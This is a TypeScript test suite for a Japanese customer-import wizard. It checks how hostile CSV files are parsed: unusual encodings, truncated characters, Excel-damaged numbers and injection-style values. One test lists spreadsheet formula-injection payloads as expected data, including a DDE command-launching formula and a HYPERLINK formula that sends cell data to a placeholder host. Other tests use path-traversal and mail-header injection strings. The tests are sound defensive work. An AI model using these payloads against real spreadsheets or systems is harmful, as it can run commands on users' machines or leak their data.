// Every hostile text file, read as the wizard proposes, does what its manifest says: read rightly, or refused with words and a line;
// never shifted, never mojibake.
import { execFileSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, test } from 'vitest'
import { matchKeys } from '../../../db/customers/identity.ts'
import { inspection } from '../../../db/imports/inspect.ts'
import { inspectFile } from '../../../db/imports/read.ts'
import type { ContactRecord } from '../../../db/imports/record.ts'
import { runImport } from '../../../db/imports/run.ts'
import { newShop } from '../careShop.ts'
import { hostileNames, madeFolder, readPeople, type People } from './hostileFiles.ts'
import { fileOf, hostile, refusalOf } from './orderFiles.ts'

const made = madeFolder()
afterAll(() => made.remove())
const outcomes = new Map<string, People | string>()
const times = new Map<string, number>()
beforeAll(async () => {
  for (const name of hostileNames) {
    const started = performance.now()
    outcomes.set(name, await readPeople(made.pathOf(name)))
    times.set(name, performance.now() - started)
  }
})

function peopleOf(name: string): People & { contacts: ContactRecord[]; faults: string[] } {
  const found = outcomes.get(name)
  if (found === undefined || typeof found === 'string') throw new Error(`${name}: ${found}`)
  return { ...found, contacts: found.members.map(({ contact }) => contact), faults: found.rejected.map(({ line, reason, kept }) => `${line} ${reason}${kept ? ' kept' : ''}`) }
}

const yamada = { name: '山田 太郎', kana: 'ヤマダ タロウ', postalCode: '100-0001', address1: '東京都千代田区千代田1-1', phone: '03-1234-5678' }
const takahashi = { name: '髙橋 﨑子', kana: 'タカハシ サキコ', postalCode: '530-0001', address1: '大阪府大阪市北区①丁目', phone: '06-1234-5678' }

test('every text file of the manifest is here', () => {
  const manifest = (JSON.parse(readFileSync(join(hostile, 'MANIFEST.json'), 'utf8')) as { file: string }[]).map(({ file }) => file)
  expect(manifest.filter((name) => !name.endsWith('.xlsx')).sort()).toEqual(hostileNames)
})

describe('the same people in every encoding and with every delimiter', () => {
  it.each([
    ['enc_utf8.csv', 'utf-8', ','], ['enc_utf8_bom.csv', 'utf-8-bom', ','], ['enc_cp932.csv', 'cp932', ','], ['enc_utf16_bom.csv', 'utf-16le', ','], ['enc_utf16le_nobom.csv', 'utf-16le', ','],
    ['enc_utf8_truncated_bom.csv', 'utf-8', ','], ['csv_sep_line.csv', 'utf-8-bom', ','], ['csv_tab_named_csv.csv', 'cp932', '\t'], ['csv_semicolon.csv', 'utf-8', ';'],
  ])('%s', (name, encoding, delimiter) => {
    const { contacts, rejected, ...found } = peopleOf(name)
    expect([found.encoding, found.delimiter, rejected]).toEqual([encoding, delimiter, []])
    expect(contacts).toMatchObject([yamada, takahashi])
  })
  it.each([['enc_eucjp.csv', 'euc-jp'], ['enc_iso2022jp.csv', 'iso-2022-jp']])('%s', (name, encoding) => {
    const { contacts, rejected, ...found } = peopleOf(name)
    expect([found.encoding, rejected]).toEqual([encoding, []])
    expect(contacts).toMatchObject([{ ...yamada, address1: '東京都千代田区' }])
  })
})

describe('files that are refused in words', () => {
  it.each([
    ['csv_empty.csv', 'fileEmpty'], ['enc_mixed_utf8_cp932.csv', 'fileDamaged:3'], ['csv_unclosed_quote.csv', 'quoteNeverClosed:3'],
    ['big_cols.csv', 'fileTooManyColumns:1'], ['big_line.csv', 'fileLineTooLong:2'], ['not_csv_pdf.csv', 'fileIsPdf'], ['not_csv_zip.csv', 'fileIsZip'], ['html_as_xls.xls', 'fileIsHtml'],
  ])('%s: %s', (name, refusal) => expect(outcomes.get(name)).toBe(refusal))
})

describe('files that are cut off', () => {
  const cut = readFileSync(join(hostile, 'enc_cp932_cut_multibyte.csv'))
  it('names the line of a character that is cut in half, and takes nothing of such a file', async () => {
    expect(await readPeople(fileOf(cut.subarray(0, -1)))).toBe('fileDamaged:3')
  })
  it('asks to look at the last row where only the missing line end tells, because two halves of characters made one (粕)', () => {
    expect(peopleOf('enc_cp932_cut_multibyte.csv')).toMatchObject({ openEnd: { line: 3, end: '…そよ風 表示 ソース 粕' }, rejected: [], contacts: [yamada, takahashi] })
  })
  it('rejects a last row that lacks columns, too', async () => {
    const found = await readPeople(fileOf(cut.subarray(0, cut.lastIndexOf(','))))
    expect(found).toMatchObject({ openEnd: null, members: [{ contact: yamada }], rejected: [{ line: 3, reason: 'cutOff', kept: false }] })
  })
  it('says nothing of a file whose last line ends, or that is a heading alone', () => {
    for (const [name, found] of outcomes) if (typeof found !== 'string' && !['enc_cp932_cut_multibyte.csv', 'csv_no_newline_end.csv'].includes(name)) expect([name, found.openEnd]).toEqual([name, null])
  })
  it('writes nothing before it was said: the trial tells, and the import then does so', async () => {
    const open = newShop()
    const path = join(hostile, 'enc_cp932_cut_multibyte.csv')
    const files = [{ path, mapping: (await inspection(open.db.sqlite, path)).mapping! }]
    const options = { timeZone: 'Asia/Tokyo', now: new Date('2026-11-21T00:00:00Z') }
    const told = { files: [{ rows: 2, rejectedRows: 0, openEnd: { line: 3, end: '…そよ風 表示 ソース 粕' } }], customers: { new: 2 } }
    expect((await runImport(open.db.sqlite, files, { ...options, dryRun: true })).result).toMatchObject(told)
    expect(open.db.sqlite.prepare('SELECT count(*) FROM customer').pluck().get()).toBe(0)
    expect((await runImport(open.db.sqlite, files, options)).result).toMatchObject(told)
  })
})

describe('what the wizard asks', () => {
  it('shows every file that can be read at all, with its own headings, and never imports it unasked', async () => {
    for (const [name, found] of outcomes) {
      if (typeof found === 'string') continue
      expect([name, found.missing, found.orders]).toEqual([name, [], 0])
      expect(found.wizard).toMatchObject({ problem: null, format: null, saved: null, mapping: { members: true } })
      expect([name, await refusalOf(inspectFile(made.pathOf(name)))]).toEqual([name, 'formatUnknown'])
    }
  })
  it('shows headings that stand twice as two columns, and takes neither for the other', () => {
    const { wizard, contacts } = peopleOf('csv_dup_headers.csv')
    expect(wizard).toMatchObject({ headings: ['氏名', '氏名', '住所', '住所'], rows: [['山田', '太郎', '東京', '千代田']] })
    expect(wizard.sure).toMatchObject({ name: false, address1: false })
    expect(contacts).toMatchObject([{ name: '山田', address1: '東京' }])
  })
  it('takes the second of two equal headings where somebody says so', async () => {
    expect(await readPeople(join(hostile, 'csv_dup_headers.csv'), { familyName: '氏名', givenName: '氏名#2', address1: ['住所', '住所#2'] })).toMatchObject({ members: [{ contact: { name: '山田 太郎', address1: '東京千代田' } }] })
  })
})

describe('rows', () => {
  it('reads no rows from headings alone', () => expect(peopleOf('csv_header_only.csv')).toMatchObject({ members: [], rejected: [] }))
  it('keeps the last row without a line end, and asks to look at it', () => expect(peopleOf('csv_no_newline_end.csv')).toMatchObject({ contacts: [yamada], rejected: [], openEnd: { line: 2, end: '…3-1234-5678,' } }))
  it('takes every kind of line end', () => expect(peopleOf('csv_mixed_newlines.csv').members).toMatchObject([{ line: 2, contact: yamada }, { line: 3, contact: yamada }, { line: 4, contact: yamada }]))
  it('keeps the lines of an address', () => expect(peopleOf('csv_newline_in_cell.csv').contacts).toMatchObject([{ name: '山田', address1: '東京都\n千代田区\n1-1' }]))
  it('reports rows of the wrong width and never shifts a cell', () => {
    const { contacts, faults } = peopleOf('csv_ragged.csv')
    expect(contacts).toMatchObject([yamada])
    expect(faults).toEqual(['3 tooFewCells', '4 tooManyCells'])
  })
})

describe('what Excel does', () => {
  it('unwraps ="…" and keeps the zeros', () => {
    expect(peopleOf('csv_excel_text_formula.csv')).toMatchObject({ contacts: [{ name: '山田 太郎', postalCode: '1000001', phone: '0312345678' }], rejected: [] })
  })
  it('drops and reports lost digits, and puts back the zero that can only have been there', () => {
    const { contacts, rejected } = peopleOf('csv_sci_phone.csv')
    expect(contacts).toMatchObject([{ name: '山田', postalCode: '1000001', phone: '' }, { name: '佐藤', postalCode: '', phone: '0312345678' }])
    expect(rejected).toEqual([
      { line: 2, reason: 'excelDamage', value: '9.01E+09', kept: true }, { line: 3, reason: 'excelDamage', value: '600001', kept: true },
    ])
  })
})

describe('characters', () => {
  it('removes zeros and reports them', () => {
    const { contacts, faults } = peopleOf('txt_nul.csv')
    expect(contacts.map(({ name }) => [name, name.length])).toEqual([['山田太郎', 4]])
    expect(faults).toEqual(['2 damagedText kept'])
  })
  it('ignores a padded end and reports it', () => {
    const { contacts, faults } = peopleOf('txt_nul_tail.csv')
    expect(contacts).toMatchObject([yamada, takahashi])
    expect(faults).toEqual(['4 damagedText kept'])
  })
  it('keeps what cannot be seen as it was written', () => {
    expect(peopleOf('txt_invisibles.csv').contacts.map(({ name }) => name)).toEqual(['山田\u200b太郎\u00ad', '山田 太郎', '山田　太郎'])
  })
  it('keeps every form of a character', () => {
    const { contacts } = peopleOf('txt_unicode_forms.csv')
    expect(contacts.map(({ name }) => name)).toEqual(['がぎぐ', 'か\u3099き\u3099く\u3099', '葛\u{e0100}城', '𠮷野', '〜～−－―‐ｰー'])
    expect(contacts[0]?.name.normalize('NFC')).toBe(contacts[1]?.name.normalize('NFC'))
  })
  it('leaves nothing of the replacement character anywhere', () => {
    for (const [name, found] of outcomes) if (typeof found !== 'string') expect([name, JSON.stringify(found.members).includes('\ufffd')]).toEqual([name, false])
  })
})

describe('texts that would be more than text', () => {
  it('keeps formulas as the text they are; the guard of our own lists comes off', () => {
    const { contacts, rejected } = peopleOf('inj_formula.csv')
    expect(rejected).toEqual([])
    expect(contacts.map(({ name }) => name)).toEqual([
      "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"見る")', '+81-3-1234-5678', '-2+3', '@SUM(1+1)', '=1+1', '=1+1', '＝1+1', '＋1', '－1', '＠a', '=1+1";=1+1', '%0A=1+1', '=1+1', '=1+1',
    ])
  })
  it('takes markup, templates and names of objects literally', () => {
    const before = Object.keys(Object.prototype)
    expect(peopleOf('inj_headers.csv').contacts.map(({ name }) => name)).toEqual(['山田'])
    expect([Object.keys(Object.prototype), ({} as Record<string, unknown>).a]).toEqual([before, undefined])
    const text = new TextDecoder().decode(readFileSync(join(hostile, 'inj_html_template.csv')))
    const { contacts } = peopleOf('inj_html_template.csv')
    expect(contacts).toHaveLength(20)
    for (const { name } of contacts) expect(text).toContain(name.replaceAll('"', '""'))
  })
  it('keeps line ends and paths within the name', () => {
    expect(peopleOf('inj_mail.csv').contacts.map(({ name }) => name)).toEqual(['山田\nBcc: x@example.com'])
    expect(peopleOf('inj_filename.csv').contacts.map(({ name }) => name)).toEqual(['..\\..\\evil', 'aux.txt', '末尾.'])
  })
  it('is not held up by long runs, whatever they are taken for', async () => {
    expect([peopleOf('redos.csv').members.length, (times.get('redos.csv') ?? Infinity) < 1_000]).toEqual([1, true])
    const started = performance.now()
    const found = await readPeople(join(hostile, 'redos.csv'), { postalCode: '郵便番号', address1: '住所', phone: '電話番号', email: '備考' })
    expect(found).toMatchObject({ members: [{ line: 2 }] })
    if (typeof found !== 'string') expect(matchKeys(found.members[0].contact, 'people')).toHaveLength(0)
    expect(performance.now() - started).toBeLessThan(1_000)
  })
})

it('takes less than five seconds for each, and less than 300 MB for all', () => {
  for (const [name, time] of times) expect([name, time < 5_000]).toEqual([name, true])
  const peak = Number(execFileSync(process.execPath, [join(import.meta.dirname, 'hostileMemory.ts')], { encoding: 'utf8' }))
  console.log(`hostile text files: at most ${peak} MB, the slowest ${Math.round(Math.max(...times.values()))} ms`)
  expect(peak).toBeGreaterThan(20)
  expect(peak).toBeLessThan(300)
})
